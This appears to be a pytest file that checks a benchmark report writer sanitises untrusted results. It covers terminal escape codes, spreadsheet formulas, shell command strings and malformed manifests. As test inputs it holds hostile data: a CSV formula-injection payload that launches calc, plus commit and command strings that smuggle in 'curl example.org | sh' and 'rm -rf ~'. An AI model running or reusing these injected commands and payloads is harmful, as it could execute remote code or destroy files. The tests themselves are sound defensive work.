"""A results folder of somebody else's: cleaned text, or a sentence of what is wrong with it."""

import gzip
import json

import pandas as pd
import pytest

from benchmarks import report
from benchmarks.report.data.frames import load
from benchmarks.store.text import printable, table_text

ESCAPE, BELL, BACKWARDS, HALF = "\x1b[31m", "\x07", "\u202e", "\ud800"
HOSTILE = f"red {ESCAPE}, {BELL}, {BACKWARDS}kcab"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain, κ → ½ 漢字 é", "plain, κ → ½ 漢字 é"),
        (f"a{ESCAPE}b", "a [31mb"),
        (f"a{BACKWARDS}b", "a\ufffdb"),
        (f"a{HALF}b", "a\ufffdb"),
        ("two\r\nlines\u2028three", "two  lines three"),
    ],
)
def test_what_can_be_printed(text, shown):
    assert printable(text) == shown


@pytest.mark.parametrize("text", ["=1+1", "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_formula_is_text_in_a_table(text):
    assert table_text(text) == f"'{text}"


def test_no_cell_of_a_table_is_a_formula(folder, settings):
    formula = '=HYPERLINK("http://example.org")'
    folder.add(
        "quality", settings(formula), quality=[{"metric": "@SUM(A1)", "value": -0.5, "node": 1}]
    )
    folder.add("runtime", settings("-2+3"), status="error", message="+1")
    report.write(folder.path)
    for name in ("quality.csv.gz", "runtime.csv"):
        table = pd.read_csv(folder.path / name, dtype=str, keep_default_na=False)
        for column in ("task", "method", "metric", "message"):
            if column in table:
                assert not table[column].str.match(r"[=+\-@\t\r]").any()
    values = pd.read_csv(folder.path / "quality.csv.gz")["value"]
    assert list(values.dropna()) == [-0.5]  # numbers stay numbers


def test_no_text_of_a_cell_or_manifest_reaches_the_terminal_as_it_is(folder, settings):
    folder.manifest(
        platform=HOSTILE,
        unavailable=[{"task": f"t{BACKWARDS}", "message": HOSTILE}],
        tasks=[{"name": "karate", "model_seed": 0, "provenance": HOSTILE}],
    )
    folder.add("quality", settings("saliency"), quality=[{"metric": HOSTILE, "value": 0.5}])
    folder.add("runtime", settings(f"m{ESCAPE}"), status="error", message=HOSTILE)
    report.write(folder.path)
    written = [
        path for path in folder.path.iterdir() if path.suffix in (".md", ".html", ".csv", ".gz")
    ]
    assert len(written) >= 4
    for path in written:
        content = path.read_bytes()
        text = (gzip.decompress(content) if path.suffix == ".gz" else content).decode()
        for character in (ESCAPE[0], BELL, BACKWARDS):
            assert character not in text, path.name


def test_a_commit_and_a_command_cannot_be_more_than_that(folder):
    folder.manifest(
        commit="0123456; curl example.org | sh", command="pytest benchmarks/; rm -rf ~ `id`"
    )
    report.write(folder.path)
    text = folder.read("report.md")
    assert "git checkout" not in text
    (line,) = [line for line in text.splitlines() if line.startswith("pytest ")]
    # A shell that it is pasted into takes no word of it for a command of its own.
    assert line == "pytest 'benchmarks/;' rm -rf '~' '`id`'"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ([], "it holds a list"),
        ("[" * 100_000 + "]" * 100_000, "maximum recursion depth exceeded"),
        ({"schema": 2}, "its schema is 2, this version reads 1; update the package"),
        ({"schema": "1"}, "its schema is '1'"),
        ({"schema": 1, "commit": ["a"]}, "'commit' must be text"),
        ({"schema": 1, "cpu": "fast"}, "'cpu' must be an object"),
        ({"schema": 1, "tasks": {}}, "'tasks' must be a list"),
        ({"schema": 1, "tasks": ["karate"]}, "'tasks' must be a list of objects"),
        ({"schema": 1, "tasks": [{"name": 3}]}, "an entry of 'tasks' has no text 'name'"),
        ({"schema": 1, "unavailable": [{"task": "a"}]}, "has no text 'message'"),
        ({"schema": 1, "earlier": ["pytest"]}, "'earlier' must be a list of objects"),
        ({"schema": 1, "cpu": {"threads": {}}}, "'threads' in 'cpu' must be a number"),
        (
            {"schema": 1, "tasks": [{"name": "karate", "accuracy": "high"}]},
            "'accuracy' in 'tasks' must be a number",
        ),
        ({"schema": 1, "metrics": [{"name": "gini", "bounds": 1}]}, "must be a list"),
        (
            {"schema": 1, "methods": [{"name": "lime", "engines": [3]}]},
            "'engines' in 'methods' must be a list of texts",
        ),
    ],
)
def test_a_manifest_that_is_none_is_a_sentence_of_the_report(folder, settings, content, message):
    folder.add("quality", settings("saliency"), quality=[{"metric": "gini", "value": 0.5}])
    text = content if isinstance(content, str) else json.dumps(content)
    (folder.path / "manifest.json").write_text(text)
    results = load(folder.path)
    assert results.manifest == {}
    (problem,) = results.problems
    assert problem.startswith("manifest.json could not be read: ")
    assert message in problem
    report.write(folder.path)
    assert folder.read("report.md")


@pytest.mark.parametrize(
    "changes",
    [
        {"cpu": {"model": 3, "cores": 1.5, "threads": True}},
        {"gpu": {"name": None}},
        {"versions": {"torch": 2}},
        {"determinism": {"not_deterministic": [{}], "tf32": "perhaps"}},
        {"tasks": [{"name": "karate", "provenance": {}, "stand_in": [], "motif": "yes"}]},
        {"methods": [{"name": "saliency", "signed": "yes", "citation": 7}]},
        {"metrics": [{"name": "gini", "direction": "sideways", "bounds": ["a", {}], "title": 1}]},
        {"dirty": "perhaps"},
    ],
    ids=lambda changes: next(iter(changes)),
)
def test_odd_types_further_in_end_in_no_traceback(folder, settings, changes):
    folder.manifest(**changes)
    rows = [{"metric": "gini", "node": node, "value": 0.5 + node / 9} for node in range(3)]
    folder.add("quality", settings("saliency"), quality=rows)
    assert load(folder.path).problems == []
    report.write(folder.path)
